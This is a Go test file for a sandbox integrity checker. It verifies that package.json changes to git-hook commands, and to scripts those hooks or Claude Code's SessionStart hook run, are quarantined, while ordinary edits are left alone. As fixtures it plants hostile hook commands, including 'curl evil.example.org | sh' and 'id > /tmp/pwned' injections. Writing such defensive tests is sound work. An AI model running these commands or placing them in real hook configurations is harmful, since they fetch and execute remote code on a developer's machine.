package integrity

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// TestPackageHooks: what packageHooks takes from a package.json: the keys of PackageHookKeys
// and the scripts their words name, with their pre and post scripts; nothing else.
func TestPackageHooks(t *testing.T) {
	for _, c := range []struct {
		name, text string
		hookWords  []string
		want       []string
	}{
		{"none", `{"name":"p","scripts":{"test":"jest"},"dependencies":{"a":"1"}}`, nil, nil},
		{"husky9", `{"scripts":{"test":"jest","lint":"eslint"}}`, words("#!/bin/sh\nnpm test\n"), []string{"scripts.test"}},
		{"husky4", `{"husky":{"hooks":{"pre-commit":"npm test && npm run lint"}},"scripts":{"test":"jest","pretest":"x","lint":"eslint","build":"tsc"}}`,
			nil, []string{"husky", "scripts.lint", "scripts.pretest", "scripts.test"}},
		{"npm-t", `{"gitHooks":{"pre-commit":"npm t"},"scripts":{"test":"jest"}}`, nil, []string{"gitHooks", "scripts.test"}},
		{"pre-commit-list", `{"pre-commit":["lint","check:types"],"scripts":{"lint":"eslint","check:types":"tsc","build":"tsc"}}`,
			nil, []string{"pre-commit", "scripts.check:types", "scripts.lint"}},
		{"lint-staged", `{"lint-staged":{"*.js":"eslint --fix"}}`, nil, []string{"lint-staged"}},
		{"ghooks", `{"config":{"ghooks":{"pre-commit":"make"},"port":1}}`, nil, []string{"config.ghooks"}},
		{"config-other", `{"config":{"port":1}}`, nil, nil},
		{"bom", "\xef\xbb\xbf" + `{"simple-git-hooks":{"pre-commit":"x"}}`, nil, []string{"simple-git-hooks"}},
		// Numbers node reads and a float64 does not (review 15, F4: 1e400 left the hook part unread).
		{"huge-numbers", `{"version":"1","build":1e400,"n":-1E+999,"big":123456789012345678901234567890,"z":-0,"husky":{"hooks":{"pre-commit":"x"}}}`, nil, []string{"husky"}},
		// The scripts a named script names, in turn (and no cycle is followed twice).
		{"transitive", `{"scripts":{"lint":"npm run lint:js && npm run lint:css","lint:js":"eslint && npm run lint","lint:css":"stylelint","build":"tsc"}}`,
			words("npm run lint\n"), []string{"scripts.lint", "scripts.lint:css", "scripts.lint:js"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, names, err := packageHooks([]byte(c.text), c.hookWords)
			if err != nil || !slices.Equal(names, c.want) {
				t.Errorf("packageHooks = %v, %v; want %v", names, err, c.want)
			}
		})
	}
	a, _, _ := packageHooks([]byte(`{"husky":{"hooks":{"pre-commit":"x","pre-push":"y"}},"version":"1"}`), nil)
	b, _, _ := packageHooks([]byte("{\n  \"version\": \"2\",\n  \"husky\": {\"hooks\": {\"pre-push\": \"y\", \"pre-commit\": \"x\"}}\n}\n"), nil)
	if a != b || a == "" {
		t.Errorf("the same hooks, formatted and ordered otherwise, another version: %q and %q", a, b)
	}
	if _, _, err := packageHooks([]byte(`{"husky":`), nil); err == nil {
		t.Error("a package.json that is not JSON: no error")
	}
	if _, _, err := packageHooks([]byte(`{"husky":{}} {"husky":{}}`), nil); err == nil {
		t.Error("text after the JSON value (node's JSON.parse refuses it): no error")
	}
}

// TestPackageJSONUnreadAtExit: node reads a package.json nested deeper than Go's decoder takes
// (10,000 levels); one such that changed while the box ran is moved aside at the check at exit
// (no save is caught halfway then), while during the launch it is left unread, as a save caught
// halfway is. One unchanged since the snapshot is left.
func TestPackageJSONUnreadAtExit(t *testing.T) {
	ws := newWS(t)
	top, old := filepath.Join(ws, "package.json"), filepath.Join(ws, "old/package.json")
	deep := `{"a":` + strings.Repeat("[", 10001) + strings.Repeat("]", 10001) + `,`
	mustWrite(t, top, `{"name":"p","scripts":{"test":"jest"}}`)
	mustWrite(t, old, deep+`"name":"old"}`)
	time.Sleep(1100 * time.Millisecond) // past since()'s second before the snapshot
	s := Snapshot(resolveWS(t, ws), Limits{})
	mustWrite(t, top, deep+`"husky":{"hooks":{"pre-commit":"id > /tmp/pwned"}}}`)
	if _, _, err := packageHooks([]byte(deep+`"x":1}`), nil); err == nil {
		t.Fatal("Go's decoder now reads 10,001 levels: this test no longer covers the exit's rule")
	}
	if ts := s.VerifyExec(); len(ts) != 0 {
		t.Fatalf("an unreadable package.json while the box runs: transitions %+v, want none", ts)
	}
	ts := s.VerifyExit()
	if len(ts) != 1 || ts[0].Path != top || !strings.Contains(ts[0].Detail, "could not read as JSON") {
		t.Fatalf("check at exit: transitions %+v, want the changed package.json alone", ts)
	}
	if _, err := os.Stat(top + QuarantineSuffix + "1"); err != nil {
		t.Errorf("the box's unreadable package.json was not moved aside: %v", err)
	}
}

// TestPackageJSONHooksMovedAside: a package.json is work, but the part of it that a git hook
// the host installed reads at git commit (PackageHookKeys and the scripts they name) is
// configuration: a box's change to that part has the file moved aside (at the top and in a
// subfolder's project), while its other edits (a dependency, another script, a reformat) are
// left alone, and so are a dependency's package.json files.
func TestPackageJSONHooksMovedAside(t *testing.T) {
	ws := newWS(t)
	top, web := filepath.Join(ws, "package.json"), filepath.Join(ws, "web/package.json")
	mustWrite(t, top, `{"name":"p","husky":{"hooks":{"pre-commit":"npm test"}},"scripts":{"test":"jest","build":"tsc"}}`)
	mustWrite(t, web, `{"name":"web","pre-commit":["lint"],"scripts":{"lint":"eslint ."}}`)
	mustWrite(t, filepath.Join(ws, "plain/package.json"), `{"name":"plain"}`)
	h9 := filepath.Join(ws, "h9/package.json") // husky 5 and later: .husky/pre-commit runs npm test
	mustWrite(t, h9, `{"name":"h9","scripts":{"test":"jest","dev":"vite"}}`)
	mustWrite(t, filepath.Join(ws, "h9/.husky/pre-commit"), "npm test\n")
	// Hook managers' commands beside a package.json name its scripts too: lefthook's run,
	// pre-commit's local entries.
	lh, pc := filepath.Join(ws, "lh/package.json"), filepath.Join(ws, "pc/package.json")
	mustWrite(t, lh, `{"name":"lh","scripts":{"lint":"eslint .","dev":"vite"}}`)
	mustWrite(t, filepath.Join(ws, "lh/lefthook.yml"), "pre-commit:\n  commands:\n    lint:\n      run: npm run lint\n")
	mustWrite(t, pc, `{"name":"pc","scripts":{"check":"tsc","dev":"vite"}}`)
	mustWrite(t, filepath.Join(ws, "pc/.pre-commit-config.yaml"), "repos:\n  - repo: local\n    hooks:\n      - id: c\n        entry: npm run check\n        language: system\n")
	// So do an agent's hooks (agentCommandFiles): Claude Code's SessionStart runs npm run setup.
	cc := filepath.Join(ws, "cc/package.json")
	mustWrite(t, cc, `{"name":"cc","scripts":{"setup":"node setup.js","dev":"vite"}}`)
	mustWrite(t, filepath.Join(ws, "cc/.claude/settings.json"), `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"npm run setup"}]}]}}`)
	s := Snapshot(resolveWS(t, ws), Limits{})
	if ts := s.VerifyExec(); len(ts) != 0 {
		t.Fatalf("transitions without a change: %+v", ts)
	}
	// Ordinary work: a dependency, another script, reformatted; a dependency's package.json.
	mustWrite(t, top, "{\n  \"name\": \"p\",\n  \"scripts\": {\"build\": \"tsc -b\", \"test\": \"jest\", \"dev\": \"vite\"},\n  \"husky\": {\"hooks\": {\"pre-commit\": \"npm test\"}},\n  \"dependencies\": {\"left-pad\": \"1.3.0\"}\n}\n")
	mustWrite(t, filepath.Join(ws, "node_modules/x/package.json"), `{"name":"x","husky":{"hooks":{"pre-commit":"evil"}}}`)
	mustWrite(t, h9, `{"name":"h9","scripts":{"test":"jest","dev":"vite --host"}}`)
	if ts := s.VerifyExec(); len(ts) != 0 {
		t.Fatalf("ordinary edits of package.json: transitions %+v, want none", ts)
	}
	// A save caught halfway (truncated, then written) and one by removing and writing again:
	// no change while it is not JSON or gone, none when written again with the same hooks.
	b, _ := os.ReadFile(top)
	for _, halfway := range []func(){
		func() { mustWrite(t, top, "") },
		func() { mustWrite(t, top, string(b[:len(b)/2])) },
		func() { os.Remove(top) },
	} {
		halfway()
		if ts := s.VerifyExec(); len(ts) != 0 {
			t.Fatalf("package.json halfway through a save: transitions %+v, want none", ts)
		}
		mustWrite(t, top, string(b))
		if ts := s.VerifyExec(); len(ts) != 0 {
			t.Fatalf("package.json saved again: transitions %+v, want none", ts)
		}
	}
	// The hook's command, a script the hook runs, a hook key added.
	mustWrite(t, top, `{"name":"p","husky":{"hooks":{"pre-commit":"curl evil.example.org | sh"}},"scripts":{"test":"jest","build":"tsc -b"}}`)
	movedAside(t, s, top)
	mustWrite(t, web, `{"name":"web","pre-commit":["lint"],"scripts":{"lint":"eslint . ; id > /tmp/pwned"}}`)
	movedAside(t, s, web)
	mustWrite(t, filepath.Join(ws, "plain/package.json"), `{"name":"plain","lint-staged":{"*":"id > /tmp/pwned"}}`)
	movedAside(t, s, filepath.Join(ws, "plain/package.json"))
	mustWrite(t, h9, `{"name":"h9","scripts":{"test":"jest; id > /tmp/pwned","dev":"vite --host"}}`)
	movedAside(t, s, h9)
	mustWrite(t, lh, `{"name":"lh","scripts":{"lint":"eslint .","dev":"vite --host"}}`)
	mustWrite(t, pc, `{"name":"pc","scripts":{"check":"tsc","dev":"vite --host"}}`)
	mustWrite(t, cc, `{"name":"cc","scripts":{"setup":"node setup.js","dev":"vite --host"}}`)
	if ts := s.VerifyExec(); len(ts) != 0 {
		t.Fatalf("ordinary edits beside lefthook's, pre-commit's and Claude Code's configuration: transitions %+v, want none", ts)
	}
	mustWrite(t, lh, `{"name":"lh","scripts":{"lint":"eslint . ; id > /tmp/pwned","dev":"vite --host"}}`)
	movedAside(t, s, lh)
	mustWrite(t, pc, `{"name":"pc","scripts":{"check":"tsc ; id > /tmp/pwned","dev":"vite --host"}}`)
	movedAside(t, s, pc)
	mustWrite(t, cc, `{"name":"cc","scripts":{"setup":"node setup.js; id > /tmp/pwned","dev":"vite --host"}}`)
	movedAside(t, s, cc)
	if b, err := os.ReadFile(top + QuarantineSuffix + "1"); err != nil || !strings.Contains(string(b), "evil.example.org") {
		t.Errorf("the box's package.json, moved aside: %q, %v", b, err)
	}
}
